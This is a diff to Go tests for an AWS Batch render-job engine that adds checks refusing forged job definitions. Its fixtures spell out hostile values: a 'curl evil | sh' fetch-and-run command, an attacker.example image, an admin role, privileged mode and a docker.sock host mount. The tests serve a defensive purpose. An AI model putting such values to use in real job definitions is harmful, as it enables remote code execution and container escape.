@@ -12,6 +12,8 @@ import (
 
 	"github.com/aws/aws-sdk-go-v2/aws"
 	"github.com/aws/aws-sdk-go-v2/credentials"
+	awsbatch "github.com/aws/aws-sdk-go-v2/service/batch"
+	"github.com/aws/aws-sdk-go-v2/service/batch/types"
 
 	"github.com/framefleet/framefleet/internal/batchtest"
 	"github.com/framefleet/framefleet/pipeline"
@@ -36,8 +38,23 @@ func awsConfig() aws.Config {
 	return aws.Config{Region: "us-east-1", Credentials: credentials.NewStaticCredentialsProvider("AKID", "SECRET", "")}
 }
 
-// newEngine returns an engine talking to srv through the real SDK.
+// newEngine returns an engine talking to srv through the real SDK, after
+// registering spec's job definition as `framefleet setup` does (the engine
+// itself never registers).
 func newEngine(t testing.TB, srv *batchtest.Server, spec batch.Spec) *batch.Engine {
+	t.Helper()
+	e := newEngineWithoutSetup(t, srv, spec)
+	if spec.Registers() {
+		if _, _, err := e.EnsureJobDefinition(context.Background(), spec); err != nil {
+			t.Fatalf("setting up the job definition: %v", err)
+		}
+		srv.ResetCalls()
+	}
+	return e
+}
+
+// newEngineWithoutSetup returns an engine talking to srv through the real SDK.
+func newEngineWithoutSetup(t testing.TB, srv *batchtest.Server, spec batch.Spec) *batch.Engine {
 	t.Helper()
 	e, err := batch.New(awsConfig(), batch.Options{
 		Queue:      queue,
@@ -79,7 +96,7 @@ func wait(t *testing.T, e *batch.Engine, h pipeline.Handle) pipeline.Status {
 
 func TestEnsureJobDefinitionRegistersOnlyWhenSpecChanges(t *testing.T) {
 	srv := batchtest.Start(t, batchtest.Options{})
-	e := newEngine(t, srv, testSpec())
+	e := newEngineWithoutSetup(t, srv, testSpec())
 	ctx := context.Background()
 
 	base := testSpec()
@@ -122,11 +139,23 @@ func TestEnsureJobDefinitionRegistersOnlyWhenSpecChanges(t *testing.T) {
 	}
 }
 
-func TestSubmitRegistersDefinitionOncePerEngine(t *testing.T) {
+// TestSubmitNeverRegisters: registering is setup's; an engine whose
+// definition was never set up fails before submitting anything, naming
+// `framefleet setup`, and once it is set up, each engine looks it up once.
+func TestSubmitNeverRegisters(t *testing.T) {
 	srv := batchtest.Start(t, batchtest.Options{})
 	ctx := context.Background()
-	for i := range 3 { // three engines (three CLI invocations), two runs each
-		e := newEngine(t, srv, testSpec())
+	_, err := newEngineWithoutSetup(t, srv, testSpec()).Submit(ctx, testJob("not-set-up", 2))
+	if !errors.Is(err, batch.ErrDefinitionMismatch) || !strings.Contains(err.Error(), "framefleet setup") {
+		t.Fatalf("Submit without setup: %v; want an error naming framefleet setup", err)
+	}
+	if c := srv.Calls(); c["RegisterJobDefinition"] != 0 || c["SubmitJob"] != 0 {
+		t.Fatalf("calls %v: want no registration and no submission", c)
+	}
+
+	newEngine(t, srv, testSpec()) // setup
+	for i := range 3 {            // three engines (three CLI invocations), two runs each
+		e := newEngineWithoutSetup(t, srv, testSpec())
 		for j := range 2 {
 			h, err := e.Submit(ctx, testJob(fmt.Sprintf("run%d-%d", i, j), 2))
 			if err != nil {
@@ -135,12 +164,117 @@ func TestSubmitRegistersDefinitionOncePerEngine(t *testing.T) {
 			wait(t, e, h)
 		}
 	}
-	if got := srv.Calls()["RegisterJobDefinition"]; got != 1 {
-		t.Errorf("RegisterJobDefinition calls = %d, want 1", got)
+	if got := srv.Calls()["RegisterJobDefinition"]; got != 0 {
+		t.Errorf("RegisterJobDefinition calls = %d, want 0", got)
 	}
 	if got := srv.Calls()["DescribeJobDefinitions"]; got != 3 {
 		t.Errorf("DescribeJobDefinitions calls = %d, want 3 (one per engine)", got)
 	}
+}
+
+// TestSubmitRefusesRevisionsThatDifferFromTheSpec: a revision carrying the
+// wanted spec's tag is used only when its contents match. Someone allowed to
+// register (a branch's workflow, before the render role lost that right)
+// could copy the tag onto a revision with their own image or privileges.
+func TestSubmitRefusesRevisionsThatDifferFromTheSpec(t *testing.T) {
+	forgeries := []struct {
+		name   string
+		forge  func(*types.ContainerProperties)
+		reason string
+	}{
+		{"faithful copy", func(*types.ContainerProperties) {}, ""},
+		{"other image", func(cp *types.ContainerProperties) { cp.Image = aws.String("attacker.example/evil:1") }, `image is "attacker.example/evil:1"`},
+		{"other job role", func(cp *types.ContainerProperties) {
+			cp.JobRoleArn = aws.String("arn:aws:iam::123456789012:role/admin")
+		}, "job role"},
+		{"other command", func(cp *types.ContainerProperties) { cp.Command = []string{"sh", "-c", "curl evil | sh"} }, "command"},
+		{"privileged", func(cp *types.ContainerProperties) { cp.Privileged = aws.Bool(true) }, "privileged"},
+		{"more memory", func(cp *types.ContainerProperties) {
+			cp.ResourceRequirements = []types.ResourceRequirement{{Type: types.ResourceTypeVcpu, Value: aws.String("2")}, {Type: types.ResourceTypeMemory, Value: aws.String("65536")}}
+		}, "resources"},
+		{"host mount", func(cp *types.ContainerProperties) {
+			cp.Volumes = []types.Volume{{Name: aws.String("docker"), Host: &types.Host{SourcePath: aws.String("/var/run/docker.sock")}}}
+			cp.MountPoints = []types.MountPoint{{SourceVolume: aws.String("docker"), ContainerPath: aws.String("/var/run/docker.sock")}}
+		}, "mounts volumes"},
+	}
+	for _, tc := range forgeries {
+		t.Run(tc.name, func(t *testing.T) {
+			srv := batchtest.Start(t, batchtest.Options{})
+			ctx := context.Background()
+			spec := testSpec()
+			forged := forgedRegistration(spec, tc.forge)
+			if _, err := rawClient(srv).RegisterJobDefinition(ctx, forged); err != nil {
+				t.Fatal(err)
+			}
+			e := newEngineWithoutSetup(t, srv, spec)
+			h, err := e.Submit(ctx, testJob("forged", 2))
+			if tc.reason == "" { // a faithful copy is what setup registers: it is used
+				if err != nil {
+					t.Fatalf("Submit with a revision equal to the spec: %v", err)
+				}
+				wait(t, e, h)
+				return
+			}
+			if !errors.Is(err, batch.ErrDefinitionMismatch) || !strings.Contains(err.Error(), "framefleet setup") ||
+				!strings.Contains(err.Error(), "revision 1 carries the spec tag") || !strings.Contains(err.Error(), tc.reason) {
+				t.Fatalf("Submit with a forged revision: %v; want a refusal naming revision 1, %q and framefleet setup", err, tc.reason)
+			}
+			if n := len(srv.Submissions()); n != 0 {
+				t.Fatalf("%d jobs submitted with the forged revision", n)
+			}
+
+			// Setup (an administrator) registers a genuine revision; renders
+			// then use it, never the newer-looking forgery beside it.
+			arn, registered, err := e.EnsureJobDefinition(ctx, spec)
+			if err != nil || !registered || !strings.HasSuffix(arn, ":2") {
+				t.Fatalf("setup after the forgery: %s registered=%v %v; want revision 2 registered", arn, registered, err)
+			}
+			if _, err := rawClient(srv).RegisterJobDefinition(ctx, forged); err != nil { // revision 3, forged again
+				t.Fatal(err)
+			}
+			e = newEngineWithoutSetup(t, srv, spec)
+			h, err = e.Submit(ctx, testJob("genuine", 2))
+			if err != nil {
+				t.Fatal(err)
+			}
+			for _, sub := range srv.Submissions() {
+				if !strings.HasSuffix(sub.JobDefinition, ":2") {
+					t.Errorf("%s submitted with %s, want revision 2", sub.JobName, sub.JobDefinition)
+				}
+			}
+			wait(t, e, h)
+		})
+	}
+}
+
+// forgedRegistration is the request setup would send for spec, tag
+// included, changed by forge.
+func forgedRegistration(spec batch.Spec, forge func(*types.ContainerProperties)) *awsbatch.RegisterJobDefinitionInput {
+	env := []types.KeyValuePair{{Name: aws.String(batch.BlenderVersionEnv), Value: aws.String(spec.BlenderVersion)}}
+	cp := &types.ContainerProperties{
+		Image:       aws.String(spec.Image),
+		Command:     []string{"worker", "render"},
+		Environment: env,
+		JobRoleArn:  aws.String(spec.JobRoleARN),
+		ResourceRequirements: []types.ResourceRequirement{
+			{Type: types.ResourceTypeVcpu, Value: aws.String("2")}, {Type: types.ResourceTypeMemory, Value: aws.String("4096")},
+		},
+	}
+	forge(cp)
+	return &awsbatch.RegisterJobDefinitionInput{
+		JobDefinitionName:    aws.String(spec.Name),
+		Type:                 types.JobDefinitionTypeContainer,
+		ContainerProperties:  cp,
+		PlatformCapabilities: []types.PlatformCapability{types.PlatformCapabilityEc2},
+		RetryStrategy:        &types.RetryStrategy{Attempts: aws.Int32(3), EvaluateOnExit: batch.RetryRules()},
+		Tags:                 map[string]string{batch.SpecHashTag: spec.Hash(), batch.ManagedTag: "true"},
+	}
+}
+
+// rawClient is a plain Batch client of srv, for what someone other than
+// framefleet sends.
+func rawClient(srv *batchtest.Server) *awsbatch.Client {
+	return awsbatch.NewFromConfig(awsConfig(), func(o *awsbatch.Options) { o.BaseEndpoint = aws.String(srv.URL) })
 }
 
 func TestJobDefinitionContents(t *testing.T) {
@@ -623,24 +757,41 @@ func TestMaxArraySizeIsAccepted(t *testing.T) {
 	}
 }
 
-func TestJobAttemptsUseTheirOwnDefinition(t *testing.T) {
-	srv := batchtest.Start(t, batchtest.Options{Executor: func(context.Context, batchtest.ExecJob) (int, error) { return 75, nil }})
+// TestJobAttemptsOverrideKeepsTheRules: a job asking for another number of
+// attempts sends a retryStrategy with the render (it replaces the
+// definition's), carrying the same rules: transient exits are retried up to
+// the new count, other failures still end a child at once.
+func TestJobAttemptsOverrideKeepsTheRules(t *testing.T) {
+	srv := batchtest.Start(t, batchtest.Options{Executor: func(_ context.Context, j batchtest.ExecJob) (int, error) {
+		if isStitch(j) {
+			return 0, nil
+		}
+		if j.ArrayIndex == 0 {
+			return 75, nil // transient
+		}
+		return 1, nil // permanent
+	}})
 	e := newEngine(t, srv, testSpec())
 	job := testJob("attempts", 2)
-	job.Attempts = 1
+	job.Attempts = 5
 	h, err := e.Submit(context.Background(), job)
 	if err != nil {
 		t.Fatal(err)
 	}
 	st := wait(t, e, h)
-	if st.Render != pipeline.StateFailed || srv.Attempts(h.RenderID+":0") != 1 {
-		t.Errorf("render %s after %d attempts, want FAILED after 1", st.Render, srv.Attempts(h.RenderID+":0"))
+	if st.Render != pipeline.StateFailed || srv.Attempts(h.RenderID+":0") != 5 || srv.Attempts(h.RenderID+":1") != 1 {
+		t.Errorf("render %s after %d and %d attempts, want FAILED after 5 (transient) and 1 (permanent)",
+			st.Render, srv.Attempts(h.RenderID+":0"), srv.Attempts(h.RenderID+":1"))
 	}
-	if srv.Submissions()[0].RetryOverride {
-		t.Error("retryStrategy sent with SubmitJob")
+	subs := srv.Submissions()
+	if !subs[0].RetryOverride || subs[0].RetryAttempts != 5 || len(subs[0].RetryRules) != len(batch.RetryRules()) {
+		t.Errorf("render retryStrategy %d %q, want 5 attempts and the definition's rules", subs[0].RetryAttempts, subs[0].RetryRules)
 	}
-	if attempts, _ := srv.JobDefinitions("framefleet-test-attempts1")[0].Retry(); attempts != 1 {
-		t.Errorf("attempts definition has %d attempts", attempts)
+	if subs[1].RetryOverride {
+		t.Error("the stitch overrides the definition's retryStrategy")
+	}
+	if n := len(srv.JobDefinitions("framefleet-test")); n != 1 {
+		t.Errorf("%d revisions, want the one setup registered", n)
 	}
 }
 
@@ -733,6 +884,31 @@ func TestSubmitIsNotDuplicated(t *testing.T) {
 	}
 }
 
+// TestLostSubmitAnswerWaitsForTheJobToShow: Batch's job list lags a
+// SubmitJob, so after a lost answer the engine looks the job up with backoff
+// over several seconds rather than once, and adopts it instead of creating a
+// second array that would run unwatched.
+func TestLostSubmitAnswerWaitsForTheJobToShow(t *testing.T) {
+	srv := batchtest.Start(t, batchtest.Options{ListDelay: time.Second})
+	newEngine(t, srv, testSpec()) // setup
+	e, err := batch.New(awsConfig(), batch.Options{Queue: queue, Definition: testSpec(), Endpoint: srv.URL})
+	if err != nil {
+		t.Fatal(err)
+	}
+	srv.FailAfterWork("SubmitJob", 1)
+	h, err := e.Submit(context.Background(), testJob("slow-to-show", 3))
+	if err != nil {
+		t.Fatal(err)
+	}
+	subs := srv.Submissions()
+	if len(subs) != 2 || subs[0].JobID != h.RenderID || subs[1].JobID != h.StitchID {
+		t.Fatalf("jobs created %v, handle %+v: want one render array (adopted after the lost answer) and one stitch", jobNames(subs), h)
+	}
+	if n := srv.Calls()["ListJobs"]; n < 2 {
+		t.Errorf("%d look-ups: the job shows after 1s, want it found by a later look-up", n)
+	}
+}
+
 func jobNames(subs []batchtest.SubmitRecord) []string {
 	var out []string
 	for _, s := range subs {
@@ -760,16 +936,13 @@ func TestSubmitGivesUpOnClientErrors(t *testing.T) {
 func TestSubmitBoundsResubmissions(t *testing.T) {
 	srv := batchtest.Start(t, batchtest.Options{})
 	e := newEngine(t, srv, testSpec())
-	if _, _, err := e.EnsureJobDefinition(context.Background(), testSpec()); err != nil {
-		t.Fatal(err)
-	}
 	srv.FailBeforeWork("SubmitJob", 100, 500)
 	_, err := e.Submit(context.Background(), testJob("down", 2))
 	if err == nil || !strings.Contains(err.Error(), "none created the job") {
 		t.Fatalf("error %v, want the tries to give up", err)
 	}
-	if c := srv.Calls(); c["SubmitJob"] != 5 || c["ListJobs"] != 5 || len(srv.Submissions()) != 0 {
-		t.Errorf("calls %v, %d jobs: want 5 submissions, each followed by a look-up, and no job", c, len(srv.Submissions()))
+	if c := srv.Calls(); c["SubmitJob"] != 5 || c["ListJobs"] != 5*4 || len(srv.Submissions()) != 0 {
+		t.Errorf("calls %v, %d jobs: want 5 submissions, each followed by 4 look-ups with backoff, and no job", c, len(srv.Submissions()))
 	}
 }
 
@@ -794,7 +967,7 @@ func TestRunCompletesDespiteFaultyAPI(t *testing.T) {
 	if faults == 0 {
 		t.Fatal("no call was faulted: the test proves nothing")
 	}
-	if srv.Calls()["SubmitJob"] < 2 || srv.Calls()["RegisterJobDefinition"] < 1 {
+	if srv.Calls()["SubmitJob"] < 2 {
 		t.Errorf("calls %v", srv.Calls())
 	}
 	if subs := srv.Submissions(); len(subs) != 2 || subs[0].JobID != h.RenderID || subs[1].JobID != h.StitchID {
@@ -1021,4 +1194,96 @@ func TestCheckQueue(t *testing.T) {
 	if _, err := e.CheckQueue(context.Background()); !errors.Is(err, batch.ErrQueueNotReady) || !strings.Contains(err.Error(), "missing not found") {
 		t.Fatalf("CheckQueue of a missing queue: %v", err)
 	}
+}
+
+// TestQueuesThatCannotRunTheJobsAreRefused: setup (CheckQueue) and the
+// engine (before its first submission) refuse a fair-share queue, whose jobs
+// all need a share identifier, and a queue of the other platform than the
+// job definition's, with a message saying which.
+func TestQueuesThatCannotRunTheJobsAreRefused(t *testing.T) {
+	fargate := testSpec()
+	fargate.Name = "ff-fargate"
+	fargate.Platform = batch.PlatformFargate
+	fargate.VCPUs, fargate.MemoryMiB = 1, 2048
+	fargate.ExecutionRoleARN = "arn:aws:iam::123456789012:role/exec"
+	tests := []struct {
+		name  string
+		queue batchtest.QueueSettings
+		spec  batch.Spec
+		want  string // "" = accepted
+	}{
+		{"EC2 definition, EC2 queue", batchtest.QueueSettings{ComputeType: "EC2"}, testSpec(), ""},
+		{"EC2 definition, Spot queue", batchtest.QueueSettings{ComputeType: "SPOT"}, testSpec(), ""},
+		{"Fargate definition, Fargate Spot queue", batchtest.QueueSettings{ComputeType: "FARGATE_SPOT"}, fargate, ""},
+		{"fair-share queue", batchtest.QueueSettings{SchedulingPolicyARN: "arn:aws:batch:us-east-1:123456789012:scheduling-policy/fair"},
+			testSpec(), "fair-share scheduling policy arn:aws:batch:us-east-1:123456789012:scheduling-policy/fair, so every job submitted to it needs a share identifier"},
+		{"Fargate definition, EC2 queue", batchtest.QueueSettings{ComputeType: "SPOT"}, fargate, "the job definition is for Fargate but job queue " + queue + " has only EC2 compute environments (SPOT)"},
+		{"EC2 definition, Fargate queue", batchtest.QueueSettings{ComputeType: "FARGATE"}, testSpec(), "the job definition is for EC2 but job queue " + queue + " has only Fargate compute environments (FARGATE)"},
+	}
+	for _, tc := range tests {
+		t.Run(tc.name, func(t *testing.T) {
+			srv := batchtest.Start(t, batchtest.Options{QueueSettings: map[string]batchtest.QueueSettings{queue: tc.queue}})
+			e := newEngine(t, srv, tc.spec)
+			_, checkErr := e.CheckQueue(context.Background())
+			h, submitErr := e.Submit(context.Background(), testJob("queue", 2))
+			if tc.want == "" {
+				if checkErr != nil || submitErr != nil {
+					t.Fatalf("CheckQueue: %v; Submit: %v; want both to pass", checkErr, submitErr)
+				}
+				wait(t, e, h)
+				return
+			}
+			for what, err := range map[string]error{"CheckQueue": checkErr, "Submit": submitErr} {
+				if !errors.Is(err, batch.ErrQueueUnsuitable) || !strings.Contains(err.Error(), tc.want) {
+					t.Errorf("%s: %v; want an error saying %q", what, err, tc.want)
+				}
+			}
+			if n := len(srv.Submissions()); n != 0 {
+				t.Errorf("%d jobs submitted to a queue that cannot run them", n)
+			}
+		})
+	}
+}
+
+func TestSetupRefusesEC2DefinitionsWithoutJobRole(t *testing.T) {
+	srv := batchtest.Start(t, batchtest.Options{})
+	spec := testSpec()
+	spec.JobRoleARN = ""
+	_, _, err := newEngineWithoutSetup(t, srv, spec).EnsureJobDefinition(context.Background(), spec)
+	if err == nil || !strings.Contains(err.Error(), "no job role") || !strings.Contains(err.Error(), "batch.job_role_arn") {
+		t.Fatalf("EnsureJobDefinition without a job role: %v; want a refusal naming batch.job_role_arn", err)
+	}
+	if n := srv.Calls()["RegisterJobDefinition"]; n != 0 {
+		t.Errorf("%d registrations, want none", n)
+	}
+}
+
+func TestTagValuesAreValidEverywhere(t *testing.T) {
+	tests := []struct{ in, want string }{
+		{"Scene", "Scene"},
+		{"shot 1: take/2 @home +=-._", "shot 1: take/2 @home +=-._"},
+		{"Café (final) #3, v2!", "Caf_ _final_ _3_ v2_"},
+		{"場景", "__"},
+		{strings.Repeat("x", 300), strings.Repeat("x", 256)},
+		{strings.Repeat("é", 300), strings.Repeat("_", 256)},
+	}
+	for _, tc := range tests {
+		if got := batch.TagValue(tc.in); got != tc.want {
+			t.Errorf("TagValue(%q) = %q, want %q", tc.in, got, tc.want)
+		}
+	}
+	srv := batchtest.Start(t, batchtest.Options{})
+	e := newEngine(t, srv, testSpec())
+	job := testJob("tags", 2)
+	job.Scene = "Café (final)"
+	h, err := e.Submit(context.Background(), job)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, sub := range srv.Submissions() {
+		if got := sub.Tags[batch.SceneTag]; got != "Caf_ _final_" {
+			t.Errorf("%s scene tag %q, want %q", sub.JobName, got, "Caf_ _final_")
+		}
+	}
+	wait(t, e, h)
 }
